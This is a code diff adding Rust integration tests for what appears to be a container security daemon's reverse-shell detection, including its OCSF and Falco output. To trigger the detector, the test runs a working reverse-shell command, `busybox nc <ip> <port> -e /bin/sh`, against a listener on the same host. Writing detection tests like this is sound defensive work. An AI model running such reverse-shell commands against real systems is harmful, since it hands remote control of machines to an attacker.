@@ -188,3 +188,105 @@ fn a_host_pid_containers_findings_name_no_session() {
     let h = by_path(&f, "/tmp/h/true");
     assert!(h["process"].get("session").is_none(), "{h:#}");
 }
+
+/// The host's first global IPv4 address: a peer that is not loopback.
+fn host_ip() -> std::net::Ipv4Addr {
+    let o = std::process::Command::new("ip")
+        .args(["-4", "-o", "addr", "show", "scope", "global"])
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&o.stdout);
+    text.split_whitespace()
+        .skip_while(|w| *w != "inet")
+        .nth(1)
+        .and_then(|a| a.split('/').next()?.parse().ok())
+        .unwrap_or_else(|| panic!("no global IPv4 address to listen on: {text}"))
+}
+
+/// Accepts one connection on `l` (within 30 s), sends `input`, and returns what comes back.
+fn serve_once(l: std::net::TcpListener, input: &'static str) -> std::thread::JoinHandle<String> {
+    use std::io::{Read, Write};
+    std::thread::spawn(move || {
+        l.set_nonblocking(true).unwrap();
+        let start = std::time::Instant::now();
+        let mut conn = loop {
+            match l.accept() {
+                Ok((c, _)) => break c,
+                Err(_) if start.elapsed() < Duration::from_secs(30) => {
+                    std::thread::sleep(Duration::from_millis(20))
+                }
+                Err(e) => return format!("no connection: {e}"),
+            }
+        };
+        conn.set_nonblocking(false).unwrap();
+        conn.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
+        conn.write_all(input.as_bytes()).unwrap();
+        let mut out = String::new();
+        let _ = conn.read_to_string(&mut out);
+        out
+    })
+}
+
+/// A shell started with its standard streams on a TCP connection to another machine is a
+/// `REVERSE_SHELL` finding with both ends, audited even in enforce mode (it is not drift; no
+/// rule can enforce it yet); a shell on a loopback connection and a shell reading a pipe are
+/// not.
+#[test]
+fn a_shell_on_a_remote_connection_is_a_reverse_shell_and_loopback_and_pipes_are_not() {
+    reverse_shells_in("enforce");
+}
+
+/// The same in audit mode.
+#[test]
+fn audited_reverse_shells_are_found_the_same_way() {
+    reverse_shells_in("audit");
+}
+
+fn reverse_shells_in(mode: &str) {
+    if !privileged() {
+        return;
+    }
+    let ip = host_ip();
+    let s = Scratch::new();
+    let d = daemon_with(&s, mode, EVERY_FINDING);
+    let remote = std::net::TcpListener::bind((ip, 0)).unwrap();
+    let loopback = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
+    let (rport, lport) = (remote.local_addr().unwrap().port(), loopback.local_addr().unwrap().port());
+    let remote = serve_once(remote, "echo rs=$((6*7))\nexit\n");
+    let loopback = serve_once(loopback, "echo lo=1\nexit\n");
+    let out = s.run_in_container(
+        &format!(
+            "/bin/busybox nc {ip} {rport} -e /bin/sh\n/bin/busybox nc 127.0.0.1 {lport} -e /bin/sh\n\
+             echo 'echo piped' | sh\necho done=0\n"
+        ),
+        T,
+    );
+    assert_eq!(results(&out)["done"], 0, "{out:?}");
+    assert!(remote.join().unwrap().contains("rs=42"), "the shell ran: audited, not refused");
+    assert!(loopback.join().unwrap().contains("lo=1"));
+    let f = d.findings(1);
+    std::thread::sleep(Duration::from_millis(500));
+    let all = read_findings(&d.spool);
+    let shells: Vec<&Value> = all.iter().filter(|f| f["category"] == "REVERSE_SHELL").collect();
+    assert_eq!(shells.len(), 1, "only the remote one: {all:#?}");
+    let r = shells[0];
+    assert_eq!((r["action"].as_str(), r["severity"].as_str()), (Some("audited"), Some("HIGH")), "{r:#}");
+    assert_eq!(r["network"]["remote_address"], ip.to_string());
+    assert_eq!(r["network"]["remote_port"], rport);
+    assert_eq!(r["network"]["local_address"], ip.to_string(), "the same host here: {r:#}");
+    assert!(r["network"]["fds"].as_array().unwrap().contains(&serde_json::json!(0)), "{r:#}");
+    // The file is what ran (the shell's link resolved); the arguments say how it was invoked.
+    assert_eq!(r["file"]["path"], "/bin/busybox");
+    assert_eq!(r["process"]["args"][0], "/bin/sh");
+    assert_eq!(r["mitre"], serde_json::json!(["T1059"]));
+    assert!(f.iter().all(|f| f["category"] == "REVERSE_SHELL"), "no other finding: {f:#?}");
+    // OCSF names both ends (validated), Falco as fd.rip and fd.rport.
+    let spool = d.spool.to_str().unwrap();
+    let o = dg(&["findings", "--spool-dir", spool, "--format", "ocsf"]);
+    let e: Value = serde_json::from_str(String::from_utf8_lossy(&o.stdout).lines().next().unwrap()).unwrap();
+    assert_eq!(e["evidences"][0]["dst_endpoint"], serde_json::json!({"ip": ip.to_string(), "port": rport}));
+    assert!(ocsf_errors(&e).is_empty(), "{:?}", ocsf_errors(&e));
+    let o = dg(&["findings", "--spool-dir", spool, "--format", "falco"]);
+    let falco = String::from_utf8_lossy(&o.stdout);
+    assert!(falco.contains(&format!("\"fd.rport\":{rport}")) && falco.contains("\"fd.rip\""), "{falco}");
+}
